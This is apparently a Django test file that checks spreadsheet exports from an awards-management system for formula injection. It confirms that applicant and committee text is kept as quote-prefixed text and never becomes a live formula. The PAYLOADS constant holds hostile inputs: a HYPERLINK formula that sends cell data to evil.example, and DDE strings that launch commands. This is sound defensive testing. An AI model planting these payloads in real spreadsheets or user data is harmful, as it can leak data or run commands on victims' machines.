"""Formula injection (issue 10, defect 3): text an applicant, a committee member, a citizen or the office typed is
never a live formula in any export. Payloads go in through the pages (the application form, the committee vote),
every export the office can start is built and read back with openpyxl: no formula cell anywhere, and each payload
is there as text (flagged quotePrefix, so it stays text when the cell is edited)."""

import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from awards.models import Application, Campaign, Person
from scoring.documents.sheets import score_matrix_xlsx
from scoring.models import PublicVote
from scoring.services.ranking import compute_ranking
from tests.awards.applicant_support import form_data, open_campaign
from tests.factories import ApplicationFactory, user_with_role
from tests.workflow.office.builders import onsite_sheet, panel_for, result
from workflow import tasks
from workflow.models import CommitteeDecision, CreditRecord, EligibilityReview, Honor, Revocation

pytestmark = pytest.mark.django_db
S = Application.State

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
PAYLOADS = {
    "employer_name": HYPERLINK,  # 所在单位: the applicant names a new employer (stored as unit_name)
    "position": "+cmd|' /C calc'!A0",
    "title_name": "-2+3+cmd|' /C calc'!A0",
    "social_posts": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FIELD_STORED_AS = {"employer_name": "unit_name"}
#: Forms strip leading whitespace; text stored by other paths (imports, the admin) may still start with it.
STORED = {"awards_received": "\t=1+1", "punishments": "\r=1+1"}


def _edit_through_the_form(client, application, **payloads):
    client.force_login(application.applicant)
    response = client.post(
        reverse("awards:application_edit", args=[application.pk]),
        # a new employer's name: no credit code of the registered one
        form_data(
            application, **({"employer_credit_code": ""} if "employer_name" in payloads else {}), **payloads
        ),
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    application.refresh_from_db()
    for field, value in payloads.items():
        assert getattr(application, FIELD_STORED_AS.get(field, field)) == value, field
    return application


@pytest.fixture
def world(client):
    campaign = open_campaign()
    listed = _edit_through_the_form(client, ApplicationFactory(campaign=campaign), **PAYLOADS)
    reviewed = _edit_through_the_form(client, ApplicationFactory(campaign=campaign), employer_name=HYPERLINK)
    Application.objects.filter(pk=reviewed.pk).update(state=S.ELIGIBLE, number=f"ZHGJ-{campaign.year}-002")
    EligibilityReview.objects.create(application=reviewed, basic_conditions_ok=True, notes=HYPERLINK)

    Application.objects.filter(pk=listed.pk).update(
        state=S.SHORTLISTED, number=f"ZHGJ-{campaign.year}-001", **STORED
    )
    Campaign.objects.filter(pk=campaign.pk).update(
        phase=Campaign.Phase.COMPOSITE, quota=1, nomination_quota=0, public_input_enabled=False
    )
    campaign.refresh_from_db()
    panel = panel_for(campaign, experts=1, name="-第一评议组")
    expert = panel.members.get().expert
    onsite_sheet(listed, panel, expert, {})
    result(listed, panel, "onsite", 88, totals=[{"expert": expert.pk, "total": 88}])
    PublicVote.objects.create(
        campaign=campaign, application=listed, voter_key="k", rating=5, comment=HYPERLINK
    )
    compute_ranking(campaign=campaign)
    Application.objects.filter(pk=listed.pk).update(state=S.RECOMMENDED)

    office = user_with_role("office")
    client.force_login(office)
    client.post(
        reverse("workflow:decision_open", args=[campaign.pk]),
        {"kind": "confirm_recommended", "summary": "请审核"},
    )
    decision = CommitteeDecision.objects.get(campaign=campaign)
    client.force_login(user_with_role("committee"))
    client.post(
        reverse("workflow:decision_vote", args=[decision.pk]), {"choice": "reject", "comment": HYPERLINK}
    )
    assert decision.votes.get().comment == HYPERLINK

    honor = Honor.objects.create(
        application=listed,
        kind="title",
        certificate_number=f"ZHGJ-{campaign.year}-Z01",
        awarded_on=datetime.date(campaign.year, 9, 1),
        document_number="=1+1",
    )
    revocation = Revocation.objects.create(honor=honor, kind="cancel", reason=HYPERLINK, proposed_by=office)
    person = Person.objects.create(name=listed.name, resident_id=listed.resident_id)
    CreditRecord.objects.create(
        person=person,
        organization=listed.employer,
        reason=HYPERLINK,
        recorded_on=datetime.date(campaign.year, 10, 1),
        revocation=revocation,
    )
    return campaign, panel, office


def _exports(campaign, panel, office):
    for kind, (_label, _name, builder) in tasks.KINDS.items():
        if kind != "certificates":
            yield kind, builder(campaign, progress=None, user=office)
    yield "panel_matrix", score_matrix_xlsx(campaign=campaign, stage="onsite", panel=panel, user=office)


def test_no_export_holds_a_formula_and_every_payload_is_text(world):
    campaign, panel, office = world
    found = set()
    for kind, content in _exports(campaign, panel, office):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            for name in sheets:
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (kind, name)
        for ws in load_workbook(io.BytesIO(content)).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (kind, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(
                        ("=", "+", "-", "@", "\t", "\r")
                    ):
                        assert cell.data_type == "s" and cell.quotePrefix, (kind, cell.coordinate)
                        found.add((kind, cell.value))
    kinds_with_payload = {kind for kind, _v in found}
    assert {
        "roster",
        "roster_fields",
        "eligibility",
        "matrix_onsite",
        "votes",
        "honors",
        "ballots",
        "credit_records",
    } <= kinds_with_payload
    roster_values = {v for kind, v in found if kind == "roster_fields"}
    assert {*PAYLOADS.values(), *STORED.values()} <= roster_values
